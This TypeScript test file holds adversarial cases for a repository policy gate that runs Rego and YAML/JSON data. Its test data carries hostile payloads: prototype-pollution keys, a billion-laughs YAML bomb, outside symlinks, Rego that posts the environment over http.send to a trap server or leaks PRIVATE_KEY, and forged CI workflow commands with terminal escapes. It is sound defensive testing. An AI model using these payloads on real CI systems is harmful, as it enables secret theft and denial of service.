/**
 * Repository policies and data: Rego the gate compiles (`check`), `_test.rego` files that
 * `policy test` runs, and YAML/JSON data files merged into `data`. Rego cases judge a clean
 * Dockerfile, so only the repository's policy can make the exit non-zero.
 */
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import type { SoloCase, Workspace } from './model.js';
import { terminalProblems } from './model.js';
import {
  CLEAN_DOCKERFILE,
  configError,
  errorOrHolds,
  exitIn,
  type Files,
  failsClosed,
  makeRepository,
  ROOT_DOCKERFILE,
} from './repository.js';
import type { ProcessRun } from './runner.js';

const POLICIES = '.github/portcullis/policies';
const CHECK = ['check', '--format', 'json', '--offline'];
const TEST = ['policy', 'test'];

const rule = (name: string, body: string, id = `ACME-${name.toUpperCase()}`) => `# METADATA
# title: ${name}
# custom:
#   id: ${id}
#   severity: deny
package portcullis.rules.${name}

import rego.v1

${body}
`;

const testFile = (name: string, body: string) => `package portcullis.rules.${name}_test

import rego.v1

${body}
`;

interface PolicySpec {
  id: string;
  why: string;
  files: (ws: Workspace) => Files;
  args?: string[];
  dockerfile?: string;
  expect: (run: ProcessRun) => string[];
  /** The trap server must not have been called. */
  network?: boolean;
  /** A case whose path through the code this one shares: run in process (see SoloCase). */
  samePathAs?: string;
}

/** Each case calls the trap on its own path (`/<case id>`), so concurrent runs do not blur the count. */
const noNetwork = (ws: Workspace, path: string) => () =>
  ws.trap.hits(path) > 0
    ? [`a policy reached the network (${ws.trap.hits(path)} request(s) to the trap)`]
    : [];

const nonZero = (run: ProcessRun) =>
  run.code === 0 ? [`exit 0: the untrusted test passed (${run.stdout.split('\n').slice(-1)[0]})`] : [];

const SPECS: PolicySpec[] = [
  // Data files merged into `data`.
  {
    id: 'data-proto-json',
    why: '{"__proto__": {"PC-DF-002": "off"}} in a JSON data file',
    files: () => ({ [`${POLICIES}/d.json`]: '{"__proto__": {"PC-DF-002": "off"}}' }),
    dockerfile: ROOT_DOCKERFILE,
    expect: configError(/d\.json/),
  },
  {
    id: 'data-proto-yaml',
    samePathAs: 'data-proto-json',
    why: '__proto__ in a YAML data file',
    files: () => ({ [`${POLICIES}/d.yaml`]: '__proto__:\n  PC-DF-002: "off"\n  waived: true\n' }),
    dockerfile: ROOT_DOCKERFILE,
    expect: configError(/d\.yaml/),
  },
  {
    id: 'data-proto-nested',
    samePathAs: 'data-proto-json',
    why: 'a nested __proto__ key',
    files: () => ({ [`${POLICIES}/d.json`]: '{"acme": {"__proto__": {"x": 1}}}' }),
    dockerfile: ROOT_DOCKERFILE,
    expect: configError(/d\.json/),
  },
  {
    id: 'data-constructor-prototype',
    samePathAs: 'data-proto-json',
    why: 'constructor.prototype in a data file',
    files: () => ({ [`${POLICIES}/d.json`]: '{"constructor": {"prototype": {"waived": true}}}' }),
    dockerfile: ROOT_DOCKERFILE,
    expect: configError(/d\.json/),
  },
  {
    id: 'data-prototype-key',
    samePathAs: 'data-proto-json',
    why: 'a "prototype" key in a data file',
    files: () => ({ [`${POLICIES}/d.yml`]: 'acme:\n  prototype: {x: 1}\n' }),
    dockerfile: ROOT_DOCKERFILE,
    expect: configError(/d\.yml/),
  },
  {
    id: 'data-not-mapping',
    why: 'a data file holding a list',
    files: () => ({ [`${POLICIES}/d.json`]: '[1, 2, 3]' }),
    dockerfile: ROOT_DOCKERFILE,
    expect: configError(/d\.json/),
  },
  {
    id: 'data-invalid-json',
    why: 'a data file that does not parse',
    files: () => ({ [`${POLICIES}/d.json`]: '{"a": [1, 2' }),
    dockerfile: ROOT_DOCKERFILE,
    expect: configError(/d\.json/),
  },
  {
    id: 'data-symlink-outside',
    why: 'a data file that is a symlink to one outside',
    files: (ws) => ({
      [`${POLICIES}/d.json`]: (repo) =>
        symlinkSync(join(ws.sentinel, 'data.json'), join(repo, POLICIES, 'd.json')),
    }),
    dockerfile: ROOT_DOCKERFILE,
    expect: errorOrHolds(/d\.json/),
  },
  {
    id: 'data-alias-bomb',
    why: 'billion laughs in a YAML data file',
    files: () => ({
      [`${POLICIES}/d.yaml`]: `${['x0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]', ...Array.from({ length: 9 }, (_, i) => `x${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(',')}]`)].join('\n')}\n`,
    }),
    dockerfile: ROOT_DOCKERFILE,
    expect: errorOrHolds(/d\.yaml/),
  },
  {
    id: 'data-huge',
    why: 'a 6 MiB data file',
    files: () => ({
      [`${POLICIES}/d.json`]: JSON.stringify({ acme: { blob: 'x'.repeat(6 * 1024 * 1024) } }),
    }),
    dockerfile: ROOT_DOCKERFILE,
    expect: errorOrHolds(/d\.json/),
  },
  // Rego the gate compiles and evaluates.
  {
    id: 'rego-syntax-error',
    why: 'Rego that does not parse',
    files: () => ({ [`${POLICIES}/bad.rego`]: 'package portcullis.rules.bad\n\ndeny contains msg if {\n' }),
    expect: configError(/bad\.rego/),
  },
  {
    id: 'rego-http-send',
    why: 'a deny rule calling http.send',
    network: true,
    files: (ws) => ({
      [`${POLICIES}/net.rego`]: rule(
        'net',
        `deny contains msg if {\n\tr := http.send({"method": "GET", "url": "${ws.trap.url}/rego-http-send"})\n\tmsg := sprintf("%v", [r])\n}`,
      ),
    }),
    expect: failsClosed,
  },
  {
    id: 'rego-opa-runtime',
    why: 'a deny rule quoting opa.runtime()',
    files: () => ({
      [`${POLICIES}/env.rego`]: rule(
        'env',
        'deny contains msg if {\n\tmsg := sprintf("%v", [opa.runtime()])\n}',
      ),
    }),
    expect: failsClosed,
  },
  {
    id: 'rego-env-in-message',
    why: 'a deny rule quoting opa.runtime().env.PRIVATE_KEY',
    files: () => ({
      [`${POLICIES}/key.rego`]: rule(
        'key',
        'deny contains msg if {\n\tmsg := opa.runtime().env.PRIVATE_KEY\n}',
      ),
    }),
    expect: failsClosed,
  },
  {
    id: 'rego-busy-loop',
    why: 'a rule that counts to a billion',
    files: () => ({
      [`${POLICIES}/busy.rego`]: rule(
        'busy',
        'deny contains msg if {\n\tcount([x | some x in numbers.range(1, 1000000000)]) > 0\n\tmsg := "done"\n}',
      ),
    }),
    expect: failsClosed,
  },
  {
    id: 'rego-memory-hog',
    why: 'a rule that builds a huge string',
    files: () => ({
      [`${POLICIES}/hog.rego`]: rule(
        'hog',
        'deny contains msg if {\n\ts := concat("", [x | some i in numbers.range(1, 50000000); x := "xxxxxxxxxxxxxxxx"])\n\tcount(s) > 0\n\tmsg := "done"\n}',
      ),
    }),
    expect: failsClosed,
  },
  {
    id: 'rego-divide-by-zero',
    why: 'a built-in error (1/0) inside a deny rule',
    files: () => ({
      [`${POLICIES}/div.rego`]: rule(
        'div',
        'deny contains msg if {\n\tx := 1 / 0\n\tmsg := sprintf("never %v", [x])\n}',
      ),
    }),
    expect: failsClosed,
  },
  {
    id: 'rego-rule-id-proto',
    why: 'a rule whose METADATA id is __proto__',
    files: () => ({ [`${POLICIES}/proto.rego`]: rule('proto', 'deny contains "always"', '__proto__') }),
    expect: exitIn([1, 2]),
  },
  {
    id: 'rego-rule-id-tostring',
    why: 'a rule whose METADATA id is toString',
    files: () => ({ [`${POLICIES}/tostr.rego`]: rule('tostr', 'deny contains "always"', 'toString') }),
    expect: exitIn([1, 2]),
  },
  {
    id: 'rego-hostile-message',
    why: 'a deny message with ESC, CR, a workflow command and HTML (text output)',
    files: () => ({
      [`${POLICIES}/msg.rego`]: rule(
        'msg',
        'deny contains msg if {\n\tmsg := "\\u001b[2J\\u001b]0;owned\\u0007 <script>x</script>\\n::error file=a::forged\\r::warning::cr"\n}',
      ),
    }),
    args: ['check', '--format', 'text', '--offline'],
    expect: (run) => [...exitIn([1])(run), ...terminalProblems(`${run.stdout}\n${run.stderr}`)],
  },
  {
    id: 'rego-huge-file',
    why: 'a 3 MiB Rego file of rules',
    files: () => ({
      [`${POLICIES}/big.rego`]: rule(
        'big',
        Array.from({ length: 40_000 }, (_, i) => `r${i} := ${i} # ${'x'.repeat(40)}`).join('\n'),
      ),
    }),
    expect: exitIn([0, 1, 2]),
  },
  {
    id: 'rego-symlink-outside',
    why: 'a Rego file that is a symlink to one outside',
    files: (ws) => ({
      [`${POLICIES}/out.rego`]: (repo) =>
        symlinkSync(join(ws.sentinel, 'outside.rego'), join(repo, POLICIES, 'out.rego')),
    }),
    expect: exitIn([0, 2]),
  },
  // `_test.rego` run by `policy test`.
  {
    id: 'test-opa-runtime',
    why: 'a test that prints opa.runtime()',
    args: TEST,
    files: () => ({
      [`${POLICIES}/leak_test.rego`]: testFile(
        'leak',
        'test_env if {\n\tprint(opa.runtime())\n\tprint(opa.runtime().env.PRIVATE_KEY)\n\topa.runtime().env.PRIVATE_KEY != ""\n}',
      ),
    }),
    expect: nonZero,
  },
  {
    id: 'test-env-compare',
    why: 'a test that fails with the key in its trace',
    args: [...TEST],
    files: () => ({
      [`${POLICIES}/cmp_test.rego`]: testFile(
        'cmp',
        'test_env if {\n\tkey := opa.runtime().env.PRIVATE_KEY\n\ttrace(key)\n\tkey == "nope"\n}',
      ),
    }),
    expect: nonZero,
  },
  {
    id: 'test-http-send',
    why: 'a test that calls http.send',
    network: true,
    args: TEST,
    files: (ws) => ({
      [`${POLICIES}/net_test.rego`]: testFile(
        'net',
        `test_net if {\n\tr := http.send({"method": "GET", "url": "${ws.trap.url}/test-http-send"})\n\tprint(r)\n\tr.status_code == 200\n}`,
      ),
    }),
    expect: nonZero,
  },
  {
    id: 'test-http-send-post-env',
    why: 'a test that posts the environment',
    network: true,
    args: TEST,
    files: (ws) => ({
      [`${POLICIES}/post_test.rego`]: testFile(
        'post',
        `test_post if {\n\tr := http.send({"method": "POST", "url": "${ws.trap.url}/test-http-send-post-env", "body": opa.runtime().env})\n\tr.status_code == 200\n}`,
      ),
    }),
    expect: nonZero,
  },
  {
    id: 'test-net-lookup',
    why: 'a test that resolves names',
    args: TEST,
    files: () => ({
      [`${POLICIES}/dns_test.rego`]: testFile(
        'dns',
        'test_dns if {\n\taddrs := net.lookup_ip_addr("localhost")\n\tcount(addrs) > 0\n}',
      ),
    }),
    expect: nonZero,
  },
  {
    id: 'test-busy-loop',
    why: 'a test that counts to ten billion',
    args: TEST,
    files: () => ({
      [`${POLICIES}/busy_test.rego`]: testFile(
        'busy',
        'test_busy if {\n\tcount([x | some x in numbers.range(1, 10000000000)]) > 0\n}',
      ),
    }),
    expect: nonZero,
  },
  {
    id: 'test-print-escapes',
    why: 'a test that prints escape sequences and workflow commands',
    args: TEST,
    files: () => ({
      [`${POLICIES}/esc_test.rego`]: testFile(
        'esc',
        'test_esc if {\n\tprint("\\u001b[2J\\n::error file=a::forged")\n\tfalse\n}',
      ),
    }),
    expect: (run) => [...nonZero(run), ...terminalProblems(`${run.stdout}\n${run.stderr}`)],
  },
  {
    id: 'test-symlink-outside',
    why: 'a _test.rego that is a symlink to one outside',
    args: TEST,
    files: (ws) => ({
      [`${POLICIES}/out_test.rego`]: (repo) =>
        symlinkSync(join(ws.sentinel, 'outside_test.rego'), join(repo, POLICIES, 'out_test.rego')),
    }),
    expect: exitIn([1, 2]),
  },
];

export function policyCases(): SoloCase[] {
  return SPECS.map((spec) => ({
    id: `policy-${spec.id}`,
    category: 'policy',
    why: spec.why,
    ...(spec.samePathAs ? { samePathAs: `policy-${spec.samePathAs}` } : {}),
    prepare: (ws, dir) => {
      makeRepository(dir, {
        Dockerfile: spec.dockerfile ?? CLEAN_DOCKERFILE,
        [`${POLICIES}/.keep`]: '',
        ...spec.files(ws),
      });
      return {
        cwd: dir,
        args: spec.args ?? CHECK,
        expect: spec.expect,
        ...(spec.network ? { after: noNetwork(ws, `/${spec.id}`) } : {}),
      };
    },
  }));
}
